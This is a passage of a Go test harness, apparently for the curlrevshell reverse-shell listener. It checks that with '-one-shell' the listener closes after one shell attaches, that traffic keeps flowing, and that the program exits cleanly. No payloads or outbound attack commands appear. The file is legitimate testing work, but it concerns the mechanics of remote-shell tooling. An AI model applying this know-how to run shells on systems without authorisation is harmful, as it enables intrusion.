		// the attempt's outcome: a ready or a gone notice — or the listener is seen closed without either (the program
		// winds down the moment its one shell is over, and what it had queued for the terminal may never be shown)
		var loc []int
		ok, closed := false, false
		for dl := time.Now().Add(w); !ok && !closed && time.Now().Before(dl); {
			if loc, ok = e.src.WaitFor(readyOrGoneRe, a.mark, 2*time.Millisecond); !ok {
				closed = e.p.refused() != nil
			}
		}
		if ok && strings.HasPrefix(e.src.Clean()[loc[0]:loc[1]], "Shell is ready") {
			break
		}
		if closed {
			// the ready notice may still be on its way; whether it arrives only decides which way the case goes on
			if _, ok := e.src.WaitFor(readyRe, markAll, 2*time.Second); ok {
				break
			}
			if e.phaseA(e.t2, "before the first at-once attempt was started") {
				return nil, markAll, all, false
			}
			res.count("listener_closed_without_a_ready_notice_on_the_terminal", 1)
			e.tl.add("ATONCE the listener is closed but no ready notice has been shown: the program took attempt %d for a fully attached shell and was through with it before it had printed that; nothing is judged", n)
			res.inconclusive("at-once attempt %d: the listener was closed without a ready notice on the terminal (notices queued when the program winds down are not promised to be shown); nothing judged", n)
			return nil, markAll, all, false
		}
		if !ok && !silent {
			res.inconclusive("at-once attempt %d: neither a ready nor a gone notice within %s (attaching is not this property)", n, w)
			return nil, markAll, all, false
		}
		res.count("attempts_without_ready_notice", 1)
		res.count("attempts_without_ready_notice:"+c.Order+"/"+c.AtTiming, 1)
		e.tl.add("ATONCE attempt %d did not become a fully attached shell (gone notice seen: %v); its client drops it", n, ok)
		e.atCleanup(a)
	}
	loc, _ = e.src.WaitFor(readyRe, markAll, 0)
	return loc, markAll, all, true
}

// atClosed: a ready notice is on the terminal.  The listener must close: a
// refusal within the bound.  false: the case is over (a refusal before the
// first attempt, or none within the bound: then the process is HELD, to be
// watched alone later — running the case again would roll the dice again).
func (e *env) atClosed(loc []int, all []*atAttempt) (time.Time, bool) {
	res, c := e.res, e.cfg
	tReady := e.src.TimeOfClean(loc[0])
	e.tl.at(tReady, "HARNESS sees the ready notice (attempt %d of at most %d)", len(all), c.AtAttempts)
	res.count("shells_ready", 1)
	res.count("shells_ready:"+c.Order, 1)
	res.count("shells_ready:"+c.Order+"/"+c.AtTiming, 1)
	res.count("shells_ready:frame:"+c.AtFrame, 1)
	res.count("shells_ready:ended-by:"+c.AtEnd, 1)
	if e.phaseA(e.t2, "before the first request of the at-once shell was even started") {
		return tReady, false
	}
	_, _, okClosing := e.notice(`Closing listener, because -one-shell`, loc[0], 5*time.Second)
	if okClosing {
		res.count("closing_notices", 1)
	}
	ref := e.p.waitRefused(tReady.Add(boundClose * e.mult))
	if ref == nil {
		_, goneSeen := e.src.WaitFor(goneRe, loc[1], 0)
		what := fmt.Sprintf("connect(2) to %s still succeeds %s after the 'Shell is ready' notice of a shell that was over at once (%s, %s, output body %s; gone notice seen: %v, closing notice seen: %v)",
			e.addr, boundClose*e.mult, c.Order, c.AtTiming, c.AtFrame, goneSeen, okClosing)
		e.tl.add("BOUND FIRED listener-still-open-after-full-shell; the process is kept, to be watched alone")
		res.held = &heldBound{Key: "listener-still-open-after-full-shell", What: what, confirm: func(d time.Duration) (bool, string) {
			t := time.Now()
			if ref := e.p.waitRefused(t.Add(d)); ref != nil {
				e.tl.add("HARNESS the listener was closed after all")
				return false, fmt.Sprintf("the first refusal came %.0f ms after the ready notice", ms(ref.end.Sub(tReady)))
			}
			e.tl.add("HARNESS watched alone for another %s: connect(2) still succeeds", d)
			return true, fmt.Sprintf("still no refusal %.0f s after the ready notice", time.Since(tReady).Seconds())
		}}
		return tReady, false
	}
	if lat := ref.end.Sub(tReady); lat > 0 {
		res.closeLat = lat
	}
	res.count("listener_seen_closed", 1)
	return tReady, true
}

func (e *env) atOnce() {
	res, c := e.res, e.cfg
	loc, markAll, all, ok := e.atAttempts()
	if !ok {
		return
	}
	dropAll := func() {
		for _, a := range all {
			a.Close()
		}
	}
	if loc == nil {
		e.neverReady(markAll, dropAll)
		return
	}
	// ---- a shell was fully attached: the statement applies ------------------
	if _, ok := e.atClosed(loc, all); !ok {
		return
	}
	e.p.waitAttempts(12, 5*time.Second)
	if c.Hold {
		e.held = append(e.held, "the at-once shell's own connections")
		e.heldShellOut = c.AtEnd == "in-hangs-up" // its upload was attached with the body unfinished and stays so
	}
	goneEnd, ok := e.atEnded(loc, all)
	if !ok {
		return
	}
	e.afterGone(goneEnd, dropAll)
	if res.full {
		res.count("shells_judged_to_the_end", 1)
	}
}

// atEnded waits until the at-once shell is known to have ended and returns a
// terminal offset at or after its end.
func (e *env) atEnded(loc []int, all []*atAttempt) (int, bool) {
	res := e.res
	// The shell is over when the program says so (gone notice) or when every request of it has been answered to the
	// end (its handlers have returned).  The program starts winding down the moment the listener is closed, and with a
	// shell this short the gone notice may be overtaken by that: it is not promised, and not needed.
	last := all[len(all)-1]
	answered := make(chan bool, 1)
	if last.closed {
		answered = nil // its client had dropped it before the ready notice showed up: only the gone notice can tell
	} else {
		go func() { answered <- e.atAnswered(last, boundNotice*e.mult) }()
	}
	goneEnd, how := -1, ""
	dl := time.Now().Add(boundNotice * e.mult)
	for goneEnd < 0 && time.Now().Before(dl) {
		if gl, ok := e.src.WaitFor(goneRe, loc[1], 0); ok {
			goneEnd, how = gl[1], "the gone notice"
			e.tl.at(e.src.TimeOfClean(gl[0]), "HARNESS sees the gone notice")
			res.count("shells_ended_with_gone_notice", 1)
			break
		}
		select {
		case ok := <-answered:
			if ok {
				goneEnd, how = e.src.CleanLen(), "its requests answered to the end"
				e.tl.add("HARNESS every request of the at-once shell has been answered to the end (no gone notice so far)")
				res.count("shells_ended_without_gone_notice_so_far", 1)
			} else {
				answered = nil // only the gone notice can tell now
			}
		default:
			time.Sleep(2 * time.Millisecond)
		}
	}
	if goneEnd < 0 {
		res.inconclusive("at-once shell: neither a gone notice nor the end of its requests' answers within %s (ending a shell is not this property)", boundNotice*e.mult)
		return -1, false
	}
	e.tl.add("HARNESS the at-once shell has ended (%s)", how)
	return goneEnd, true
}

// atAnswered reads the answers to the attempt's requests to their end: the
// program's handlers for them have returned then.  A connection the program
// closes or resets is as good as an answer.  false: still unanswered after d.
func (e *env) atAnswered(a *atAttempt, d time.Duration) bool {
	dl := time.Now().Add(d)
	read := func(c *hk.Conn, method string) bool {
		c.SetReadDeadline(dl)
		defer c.SetReadDeadline(time.Time{})
		resp, err := http.ReadResponse(c.R, &http.Request{Method: method})
		if err == nil {
			_, err = io.Copy(io.Discard, resp.Body)
		}
		var ne net.Error
		return !(errors.As(err, &ne) && ne.Timeout())
	}
	ok := true
	if a.out != nil {
		ok = read(a.out, e.cfg.OutMethod) && ok
	}
	if a.in != nil && e.cfg.AtEnd != "in-hangs-up" {
		ok = read(a.in, "GET") && ok
	}
	if a.curl != nil {
		select {
		case <-a.waited:
		case <-time.After(time.Until(dl)):
			ok = false
		}
	}
	return ok
}

// neverReady: no attempt was reported as a fully attached shell.  Nothing is
// promised about that.  The program is sent away with Ctrl+D.  That the
// listener stayed open is what the program as it stands does (counted:
// cases_never_ready_listener_still_open), but a refusal is not judged: the
// harness cannot know that no attempt was fully attached — a program that is
// through with so short a shell may wind down before the ready notice is shown.
func (e *env) neverReady(markAll int, dropAll func()) {
	res := e.res
	res.count("cases_never_ready", 1)
	res.count("cases_never_ready:"+e.cfg.Order+"/"+e.cfg.AtTiming, 1)
	dropAll()
	e.p.waitAttempts(5, 5*time.Second)
	ref := e.p.refused()
	tEnd := time.Now()
	e.t2 = tEnd // from here on the listener may close
	e.tl.add("HARNESS no attempt became a fully attached shell; types Ctrl+D")
	e.s.Ctrl('D')
	st, sig, ok := e.s.P.WaitExit(boundExit * e.mult)
	e.p.halt()
	if !ok {
		res.inconclusive("no exit within %s after Ctrl+D while no shell was attached (not this property's clause)", boundExit*e.mult)
		return
	}
	e.tl.add("EXIT  status %d signal %q", st, sig)
	time.Sleep(20 * time.Millisecond)
	if _, ok := e.src.WaitFor(readyRe, markAll, 0); ok {
		res.count("ready_notice_seen_only_at_the_end", 1)
		return
	}
	if ref != nil && ref.end.Before(tEnd) {
		// not judged: both halves of every attempt were sent, and a program that is through with a shell this short
		// may wind down before it has shown the ready notice
		res.count("listener_closed_without_a_ready_notice_on_the_terminal", 1)
		res.inconclusive("the listener was closed during the at-once attempts although no ready notice was ever shown; nothing judged")
		return
	}
	res.count("cases_never_ready_listener_still_open", 1)
	res.full = true
}

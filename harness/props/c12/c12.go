// Package c12: with -one-shell the listening socket is closed once a shell is
// fully attached (and only then), the attached shell keeps working across the
// close, nothing is offered after it ends, and the program exits with success
// at the operator's next entered line at the latest.
//
// The real binary runs on a pty.  A poller does connect(2) to the listen
// address every few milliseconds for the whole life of the process and logs
// every change of the result.  Phases are delimited by harness actions and
// OBSERVED terminal notices, never by elapsed time:
//
//	A  until the harness starts the request that completes the shell: every
//	   connect succeeds, whatever junk came before;
//	B  after the "Shell is ready" notice: ECONNREFUSED within the bound, and
//	   never a success again (a success is attributed to this program by the
//	   certificate the listener presents);
//	traffic tokens flow both ways before, during and after the close, in
//	   order, exactly once;
//	end: no callback help after "Shell is gone"; exit 0 after at most one
//	   entered (empty) line.
//
// A third party (late.go): connections opened just before the shell is
// completed, silent until then, send their requests while the shell is
// attached (the shell's traffic must not notice) and after it has ended,
// before the operator's line (a further shell may come and go; exit status,
// callback help and the one line are judged as always).
package c12

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

const Level = "exploration"

// Bounds (x mult when a case is re-tried alone).  Normal latencies: listener
// refused < 50 ms after the ready notice; notices < 50 ms after the action;
// exit < 600 ms after the entered line (net/http's Shutdown polls every
// <= 500 ms).
const (
	boundClose   = 20 * time.Second // ready notice -> ECONNREFUSED
	boundNotice  = 30 * time.Second // harness action -> terminal notice
	boundTraffic = 30 * time.Second // token sent -> displayed / line typed -> received
	boundExit    = 30 * time.Second // one entered line -> process exit
	pollEvery    = 5 * time.Millisecond
)

var (
	orders   = []string{"i-o", "o-i", "io", "curl"}
	junks    = []string{"none", "wrong-id", "duplicate", "half-dies", "several"}
	traffics = []string{"trickle", "idle", "outflood", "inburst"}
)

// Cfg is one configuration; regenerated from (seed, index).
type Cfg struct {
	Index     int    `json:"index"`
	Kind      string `json:"kind"`       // full | never
	Order     string `json:"order"`      // i-o | o-i | io | curl
	Junk      string `json:"junk"`       // what precedes the real shell
	JunkWhere string `json:"junk_where"` // pre (on a throw-away half) | real-half (while the real first half is attached)
	Traffic   string `json:"traffic"`    // what is in flight when the listener closes
	Ending    string `json:"ending"`
	Hold      bool   `json:"hold"` // clients never close a refused or ended connection themselves (otherwise they hang up as soon as they are refused / the shell is gone)
	NoTS      bool   `json:"no_timestamps"`
	Files     bool   `json:"serve_files"`
	PollRST   bool   `json:"poll_rst"` // poller closes with RST instead of FIN
	SelfWait  int    `json:"self_wait_ms"`
	NTok      int    `json:"n_tokens_min"`
	NLines    int    `json:"n_lines_min"`
	ID        string `json:"id"`
	// LongStay: the shell stays attached (with traffic) for StayMs (31-36 s, some 35 s / 65 s) after the listener
	// closed, after a half-attached attempt that came and went before it
	LongStay bool `json:"long_stay"`
	// StayMs: how long a long-staying shell stays attached after the ready notice
	StayMs int `json:"stay_ms,omitempty"`
	// PartialCL: refused POSTs declare a Content-Length, send only part of the body and stay connected
	PartialCL bool `json:"refused_post_with_content_length"`
	// OneCPU: the program runs with GOMAXPROCS=1 (a one-core machine or container): goroutines
	// woken by the program itself run only when the waker blocks or yields
	OneCPU bool `json:"gomaxprocs_1"`
	// FixedLen: the real shell's POST /o declares a (huge) Content-Length instead of being chunked
	FixedLen bool `json:"shell_output_with_content_length"`
	// BodiedIn: the real shell's GET /i carries a chunked request body that never ends.  Only
	// settable through C12_FORCE: without full duplex net/http will not send such a client anything
	// before its body has ended, so its input stream cannot work and nothing is promised about it
	BodiedIn bool `json:"shell_input_request_with_unfinished_body"`
	// Log: where the JSON log goes: "" (none), file, devnull, fifo (drained by the harness), env-file
	Log string `json:"log,omitempty"`
	// LateDuring / LateAfter: what connections that were opened (TCP only, or TCP and a completed TLS handshake)
	// just before the request that completes the real shell, and have stayed silent since, ask for while the real
	// shell is attached / after it has ended and before the operator's line (see late.go)
	LateDuring []string `json:"preopened_connections_speak_during_shell,omitempty"`
	LateAfter  []string `json:"preopened_connections_speak_after_shell,omitempty"`
	// Engine: which case list this configuration comes from: "case" (the original list), "upload" (request-header
	// variants of the shell's output upload, upload.go) or "atonce" (shells that are over the moment they are complete, atonce.go)
	Engine string `json:"engine,omitempty"`
	// OutMethod / OutExpect: the real shell's output request is a PUT instead of a POST / carries "Expect: 100-continue":
	// "wait" = the client holds its body back until the program says 100 Continue, "nowait" = it sends body bytes at once
	OutMethod string `json:"shell_output_method,omitempty"`
	OutExpect string `json:"shell_output_expect_100_continue,omitempty"`
	// JunkExpect: refused uploads carry "Expect: 100-continue" too ("wait": their client never sends a body byte)
	JunkExpect string `json:"refused_uploads_expect_100_continue,omitempty"`
	// At*: the at-once shell (atonce.go): how its output body is framed, when its two halves are sent, which side makes
	// it end at once, and how many times the same would-be shell is tried while none has become fully attached
	AtFrame    string `json:"at_once_output_framing,omitempty"`
	AtTiming   string `json:"at_once_timing,omitempty"`
	AtEnd      string `json:"at_once_ended_by,omitempty"`
	AtPauseMs  int    `json:"at_once_first_half_attached_for_ms,omitempty"`
	AtAttempts int    `json:"at_once_max_attempts,omitempty"`
	// PlainBuild: the program is built as shipped, without the race detector
	PlainBuild bool `json:"program_built_without_race_detector,omitempty"`
	// The configuration matrix and the operator's other keys (keys.go).
	// CtrlI: what -ctrl-i names: "" (flag not given), file, dir, missing; CtrlIName: the spelling of the name
	// (plain, with a space, with a %); CtrlIExt: the single file's extension (.subr and .sh are converted, .txt is sent as it is);
	// CtrlISize: small (a few functions), medium (dozens), large (more than 1100 lines: more than the program's input queue of 1024 holds)
	CtrlI     string `json:"ctrl_i,omitempty"`
	CtrlIName string `json:"ctrl_i_name,omitempty"`
	CtrlIExt  string `json:"ctrl_i_extension,omitempty"`
	CtrlISize string `json:"ctrl_i_size,omitempty"`
	// CBAddrs: how many -callback-address flags; Tmpl: -callback-template is "" (not given), file, symlink, missing
	CBAddrs int    `json:"callback_addresses,omitempty"`
	Tmpl    string `json:"callback_template,omitempty"`
	IPv6    bool   `json:"ipv6_one_liners,omitempty"`
	// Prompt: -prompt value ("-" = flag not given)
	Prompt string `json:"prompt,omitempty"`
	// Spelling of the added flags: 0 "-flag value", 1 "-flag=value", 2 "--flag value", 3 "--flag=value"
	Spelling int `json:"flag_spelling,omitempty"`
	// KeysDuring / KeysAfter: keys the operator presses while the one shell is attached (after the listener was seen
	// closed) / after it has gone and before the one entered line: tab (= Ctrl+I, the same byte), ctrl-j, ctrl-o
	KeysDuring []string `json:"operator_keys_while_shell_attached,omitempty"`
	KeysAfter  []string `json:"operator_keys_after_shell_gone,omitempty"`
}

func (c Cfg) sig() string {
	return fmt.Sprintf("%s|%s|%s|%s|%s|%s|h%v|ts%v|f%v|rst%v", c.Kind, c.Order, c.Junk, c.JunkWhere, c.Traffic, c.Ending, c.Hold, c.NoTS, c.Files, c.PollRST) + map[bool]string{true: "|1cpu", false: ""}[c.OneCPU] + map[bool]string{true: "|cl", false: ""}[c.FixedLen] + "|log=" + c.Log + lateSig(c) + newSig(c)
}

// newSig: the dimensions of the later engines (empty for the original list, whose signatures stay what they were).
func newSig(c Cfg) string {
	s := ""
	if c.Engine != "" && c.Engine != "case" {
		s += "|engine=" + c.Engine
	}
	if c.OutMethod != "" || c.OutExpect != "" || c.JunkExpect != "" {
		s += "|out=" + c.OutMethod + "/expect:" + c.OutExpect + "/junk-expect:" + c.JunkExpect
	}
	if c.AtFrame != "" {
		s += "|atonce=" + c.AtFrame + "/" + c.AtTiming + "/" + c.AtEnd
	}
	if c.Engine == "keys" || c.Engine == "icanhazip" {
		s += fmt.Sprintf("|ctrl-i=%s/%s/%s/%s|cb=%d|tmpl=%s|v6=%v|prompt=%q|sp=%d|keys=%s/%s", c.CtrlI, c.CtrlIName, c.CtrlIExt, c.CtrlISize, c.CBAddrs, c.Tmpl, c.IPv6, c.Prompt, c.Spelling,
			strings.Join(c.KeysDuring, "+"), strings.Join(c.KeysAfter, "+"))
	}
	return s
}

// makeCfg derives the configuration of case i.  C12_FORCE="order=o-i,junk=wrong-id,hold=true,ending=out-end,traffic=idle,where=pre"
// overrides single dimensions (a debugging aid; evidence of such a run says so).
func makeCfg(rng, lrng *rand.Rand, i, rot int) Cfg {
	c := makeCfg0(rng, i, rot)
	lateCfg(&c, lrng, i-i/10, rot)
	f := os.Getenv("C12_FORCE")
	if f == "" || c.Kind != "full" {
		return c
	}
	for _, kv := range strings.Split(f, ",") {
		k, v, _ := strings.Cut(kv, "=")
		switch k {
		case "order":
			c.Order = v
			if v == "curl" {
				c.NTok = 0
			} else {
				c.NTok = 220
			}
		case "junk":
			c.Junk = v
		case "where":
			c.JunkWhere = v
		case "traffic":
			c.Traffic = v
		case "ending":
			c.Ending = v
		case "hold":
			c.Hold = v == "true"
		case "selfwait":
			c.SelfWait, _ = strconv.Atoi(v)
		case "onecpu":
			c.OneCPU = v == "true"
		case "fixedlen":
			c.FixedLen = v == "true"
		case "bodiedin":
			c.BodiedIn = v == "true"
		case "lateduring": // lateduring=io+c
			c.LateDuring = strings.Split(v, "+")
		case "lateafter":
			c.LateAfter = strings.Split(v, "+")
		}
	}
	return c
}

// Arrival order and junk kind are stratified by index (every order meets
// every junk kind within 20 consecutive full cases; the seed rotates the
// pairing), everything else is drawn from the case's PRNG.
func makeCfg0(rng *rand.Rand, i, rot int) Cfg {
	c := Cfg{Index: i}
	c.NoTS = rng.IntN(2) == 0
	c.Files = rng.IntN(2) == 0
	c.PollRST = rng.IntN(2) == 0
	c.SelfWait = 2000
	if rng.IntN(5) == 0 {
		c.SelfWait = 10000
	}
	c.ID = fmt.Sprintf("k%x", rng.Uint32())
	c.Hold = rng.IntN(6) == 0
	if i%10 == 9 {
		c.Kind = "never"
		c.Order, c.Junk, c.JunkWhere, c.Traffic, c.Ending = "-", "half-attached-cycles", "-", "-", "ctrl-d"
		return c
	}
	c.Kind = "full"
	k := i - i/10
	c.Order = orders[(k+rot)%4]
	c.Junk = junks[(k%4+k/4+rot/4)%5]
	c.JunkWhere = "pre"
	if (c.Order == "i-o" || c.Order == "o-i") && c.Junk != "none" && c.Junk != "half-dies" && rng.IntN(2) == 0 {
		c.JunkWhere = "real-half"
	}
	c.Traffic = traffics[rng.IntN(len(traffics))]
	if i%10 == 8 {
		// one case in ten: a client whose POST /o/<other id> was refused
		// never hangs up
		c.Hold = true
		c.Files = true     // (one of the requests left hanging is a big download)
		c.Junk = "several" // two refused uploads: a never-ending chunked one and a fixed-length one cut short
		c.JunkWhere = "pre"
		if c.Order == "i-o" && rng.IntN(2) == 0 {
			c.JunkWhere = "real-half"
		}
	}
	if i%10 == 3 && c.Order != "curl" {
		c.LongStay = true
		// longer than any grace period of ten, fifteen or thirty seconds; every fourth such case (they are
		// one in ten, so only the thorough tier gets there) stays beyond half a minute or a minute
		c.StayMs = 31000 + rng.IntN(5000)
		switch i / 10 % 4 {
		case 2:
			c.StayMs = 35000
		case 3:
			c.StayMs = 65000
		}
		c.Junk, c.JunkWhere = "half-dies", "pre"
	}
	if i%10 == 4 {
		// one case in ten: the operator is in no hurry after the shell has gone
		// (longer than any stop watchdog of ten or twenty seconds)
		c.SelfWait = 23000 + rng.IntN(8000)
	}
	c.NTok, c.NLines = 220, 220
	c.Log = []string{"", "file", "devnull", "", "fifo", "env-file", "devnull"}[(i+rot)%7]
	c.OneCPU = rng.IntN(4) == 0
	if i%10 == 6 && c.Order != "i-o" && c.Order != "o-i" {
		c.Order = []string{"i-o", "o-i"}[rng.IntN(2)] // the case below needs two requests
	}
	switch c.Order {
	case "i-o", "o-i":
		c.Ending = []string{"out-end", "out-close", "in-close", "both"}[rng.IntN(4)]
		if i%10 == 6 {
			// one case in ten: the shell ends because its input connection goes away while the
			// client of its output request stays connected and silent, on one CPU
			c.Ending, c.Hold, c.OneCPU = "in-close", true, true
		}
		if c.BodiedIn && (c.Ending == "in-close" || c.Ending == "both") {
			c.Ending = []string{"out-end", "out-close"}[rng.IntN(2)] // the input client is the one that lingers
		}
		// half of the shells whose output stream is not ended properly upload with a declared length
		if c.Ending != "out-end" && (rng.IntN(2) == 0 || i%10 == 6) {
			c.FixedLen = true
		}
	case "io":
		c.Ending = []string{"io-end", "io-close"}[rng.IntN(2)]
	case "curl":
		c.Ending = []string{"kill-pgrp", "type-exit"}[rng.IntN(2)]
		c.NTok = 0
	}
	return c
}

// ---- tokens -------------------------------------------------------------------

// Output tokens are 16 bytes, one per HTTP chunk: the broker reads the body
// 2048 bytes at a time, so no read ever ends inside a token and every token
// reaches the terminal in one write.  Typed lines are lower-case only, so
// nothing typed (and echoed) can look like an output token.
func tok(n int) string { return fmt.Sprintf("OUT-%011d;", n) }

func line(n int) string {
	d := []byte(strconv.Itoa(n))
	for i := range d {
		d[i] = 'a' + d[i] - '0'
	}
	return "in-" + string(d)
}

var tokRe = regexp.MustCompile(`OUT-(\d{11});`)
var rtRe = regexp.MustCompile(`RT-(\d+)`)

// ---- timeline -----------------------------------------------------------------

type timeline struct {
	mu sync.Mutex
	t0 time.Time
	ev []tlEvent
}
type tlEvent struct {
	t time.Duration
	s string
}

func (t *timeline) at(when time.Time, f string, a ...any) {
	t.mu.Lock()
	t.ev = append(t.ev, tlEvent{when.Sub(t.t0), fmt.Sprintf(f, a...)})
	t.mu.Unlock()
}
func (t *timeline) add(f string, a ...any) { t.at(time.Now(), f, a...) }
func (t *timeline) lines() []string {
	t.mu.Lock()
	defer t.mu.Unlock()
	ev := append([]tlEvent(nil), t.ev...)
	sort.SliceStable(ev, func(i, j int) bool { return ev[i].t < ev[j].t })
	out := make([]string, len(ev))
	for i, e := range ev {
		out[i] = fmt.Sprintf("%9.1fms %s", float64(e.t.Microseconds())/1000, e.s)
	}
	return out
}

// ---- poller -------------------------------------------------------------------

type attempt struct {
	start, end time.Time
	res        string
}

type poller struct {
	addr string
	rst  bool
	pin  string
	tl   *timeline

	mu           sync.Mutex
	n, nOK       int
	nRefused     int
	nOther       int
	others       []attempt
	last         string
	trans        int
	firstRefused *attempt
	okBeforeRef  int
	refAfter     int
	reopened     []string // successes after the first refusal, same certificate
	selfConnects int
	strangers    int // successes after the first refusal, other certificate (port re-used by another process)
	unconfirmed  []string

	stop chan struct{}
	done chan struct{}
}

func startPoller(addr, pin string, rst bool, tl *timeline) *poller {
	p := &poller{addr: addr, pin: pin, rst: rst, tl: tl, stop: make(chan struct{}), done: make(chan struct{})}
	go p.loop()
	return p
}

func peerPin(addr string, d time.Duration) (string, error) {
	nd := &net.Dialer{Timeout: d}
	c, err := tls.DialWithDialer(nd, "tcp", addr, &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		return "", err
	}
	defer c.Close()
	cs := c.ConnectionState()
	if len(cs.PeerCertificates) == 0 {
		return "", errors.New("no certificate")
	}
	return hk.Pin(cs.PeerCertificates[0]), nil
}

func (p *poller) loop() {
	defer close(p.done)
	for {
		select {
		case <-p.stop:
			return
		default:
		}
		a := attempt{start: time.Now()}
		c, err := net.DialTimeout("tcp", p.addr, time.Second)
		a.end = time.Now()
		switch {
		case err == nil && c.LocalAddr().String() == c.RemoteAddr().String():
			// TCP simultaneous open with ourselves: the kernel picked the
			// (free) destination port as source port.  Nobody listens.
			a.res = "refused"
			p.mu.Lock()
			p.selfConnects++
			p.mu.Unlock()
			c.Close()
		case err == nil:
			a.res = "ok"
			if tc, ok := c.(*net.TCPConn); ok && p.rst {
				tc.SetLinger(0)
			}
			c.Close()
		case errors.Is(err, syscall.ECONNREFUSED):
			a.res = "refused"
		default:
			a.res = "other: " + err.Error()
		}
		p.mu.Lock()
		p.n++
		cls := a.res
		if strings.HasPrefix(cls, "other") {
			cls = "other"
		}
		if cls != p.last {
			p.trans++
			p.tl.at(a.start, "POLL attempt #%d (%.1f ms): %s -> %s", p.n, float64(a.end.Sub(a.start).Microseconds())/1000, orDash(p.last), a.res)
			p.last = cls
		}
		afterRef := p.firstRefused != nil
		switch cls {
		case "ok":
			p.nOK++
			if !afterRef {
				p.okBeforeRef++
			}
		case "refused":
			p.nRefused++
			if !afterRef {
				aa := a
				p.firstRefused = &aa
			} else {
				p.refAfter++
			}
		default:
			p.nOther++
			if len(p.others) < 50 {
				p.others = append(p.others, a)
			}
		}
		p.mu.Unlock()
		if cls == "ok" && afterRef {
			// Whose listener is this?
			pin, err := peerPin(p.addr, 3*time.Second)
			p.mu.Lock()
			d := fmt.Sprintf("connect succeeded %.1f ms after the first refusal", float64(a.start.Sub(p.firstRefused.start).Microseconds())/1000)
			switch {
			case err != nil:
				if len(p.unconfirmed) < 5 {
					p.unconfirmed = append(p.unconfirmed, d+"; identity not established: "+err.Error())
				}
			case pin == p.pin:
				if len(p.reopened) < 5 {
					p.reopened = append(p.reopened, d+"; the listener presents this program's certificate")
				}
			default:
				p.strangers++
			}
			p.mu.Unlock()
		}
		select {
		case <-p.stop:
			return
		case <-time.After(pollEvery):
		}
	}
}

func errorsIsReset(res string) bool { return strings.Contains(res, "connection reset by peer") }

func orDash(s string) string {
	if s == "" {
		return "-"
	}
	return s
}

func (p *poller) halt() {
	select {
	case <-p.stop:
	default:
		close(p.stop)
	}
	select {
	case <-p.done:
	case <-time.After(5 * time.Second):
	}
}

func (p *poller) refused() *attempt {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.firstRefused
}

// waitAttempts waits until n more attempts have completed (a positive probe
// that the poller looked during a phase).
func (p *poller) waitAttempts(n int, d time.Duration) {
	p.mu.Lock()
	want := p.n + n
	p.mu.Unlock()
	dl := time.Now().Add(d)
	for time.Now().Before(dl) {
		p.mu.Lock()
		ok := p.n >= want
		p.mu.Unlock()
		if ok {
			return
		}
		time.Sleep(time.Millisecond)
	}
}

func (p *poller) waitRefused(dl time.Time) *attempt {
	for {
		if a := p.refused(); a != nil {
			return a
		}
		if !time.Now().Before(dl) {
			return nil
		}
		time.Sleep(time.Millisecond)
	}
}

// ---- result -------------------------------------------------------------------

type finding struct {
	Key, What string
}

type result struct {
	cfg      Cfg
	viol     []finding // decided
	fired    []finding // a progress bound fired: to be re-tried alone
	inconc   []string
	counts   map[string]int64
	closeLat time.Duration
	tl       *timeline
	term     string
	full     bool // went through all phases
	held     *heldBound
}

func (res *result) count(k string, n int64) { res.counts[k] += n }
func (res *result) violate(key, f string, a ...any) {
	res.viol = append(res.viol, finding{key, fmt.Sprintf(f, a...)})
	res.tl.add("VIOLATION %s", key)
}
func (res *result) fire(key, f string, a ...any) {
	res.fired = append(res.fired, finding{key, fmt.Sprintf(f, a...)})
	res.tl.add("BOUND FIRED %s", key)
}
func (res *result) inconclusive(f string, a ...any) {
	res.inconc = append(res.inconc, fmt.Sprintf("case %d (%s): ", res.cfg.Index, res.cfg.sig())+fmt.Sprintf(f, a...))
	res.tl.add("INCONCLUSIVE %s", fmt.Sprintf(f, a...))
}

func tailStr(s string, n int) string {
	if len(s) > n {
		return "..." + s[len(s)-n:]
	}
	return s
}

func (res *result) witness() map[string]any {
	tl := res.tl.lines()
	if len(tl) > 120 {
		tl = append(append([]string{}, tl[:40]...), append([]string{"..."}, tl[len(tl)-80:]...)...)
	}
	return map[string]any{"config": res.cfg, "timeline": tl, "terminal_tail": tailStr(res.term, 1500)}
}

// ---- one case -----------------------------------------------------------------

// noticeSrc is where the program's notices are read: the terminal of the real
// binary (*ptyx.Proc).
type noticeSrc interface {
	WaitFor(re *regexp.Regexp, from int, d time.Duration) ([]int, bool)
	CleanLen() int
	Clean() string
	TimeOfClean(off int) time.Time
}

// heldBound: a progress bound fired, and instead of running the case again
// the SAME process is kept and watched further once the other cases are done
// (a re-run would roll the program's scheduling dice again).
type heldBound struct {
	Key, What string
	// confirm watches for another d; true: what was waited for has still not happened
	confirm func(d time.Duration) (bool, string)
	release func()
}

type env struct {
	src   noticeSrc
	r     *mon.Run
	res   *result
	cfg   Cfg
	rng   *rand.Rand
	s     *crs.Session
	p     *poller
	tl    *timeline
	mult  time.Duration
	addr  string
	fdir  string
	conns []interface{ Close() }
	held  []string // connections a client deliberately leaves open (cfg.Hold)

	t2             time.Time // when the harness started the request that completes the shell
	heldRefusedOut int       // refused /o requests whose client is still connected
	nRefusedOut    int       // refused /o requests made so far in this case
	heldShellOut   bool      // the ended shell's own /o request is still connected
	heldBodied     int       // requests with an unasked-for, unfinished body whose client is still connected
	heldInProgress int       // requests the program is still in the middle of (its handler waits for the client), client still connected

	ins          *insertSrc    // what -ctrl-i names (keys.go); nil: flag not given
	keysPressed  int           // keys pressed after the shell had gone
	lrng         *rand.Rand    // the late speakers' own stream
	lateD, lateA [][]*lateConn // pre-opened connections that speak during / after the shell, per entry of cfg.LateDuring / LateAfter
}

// refusedConn: what the client of a refused request does with its connection.
func (e *env) refusedConn(label string, c interface{ Close() }) {
	if e.cfg.Hold {
		e.held = append(e.held, label)
		return
	}
	c.Close()
}

func (e *env) keep(c interface{ Close() }) { e.conns = append(e.conns, c) }

// notice waits for a terminal notice at/after from.
func (e *env) notice(re string, from int, d time.Duration) (int, time.Time, bool) {
	loc, ok := e.src.WaitFor(regexp.MustCompile(re), from, d)
	if !ok {
		return 0, time.Time{}, false
	}
	return loc[1], e.src.TimeOfClean(loc[0]), true
}

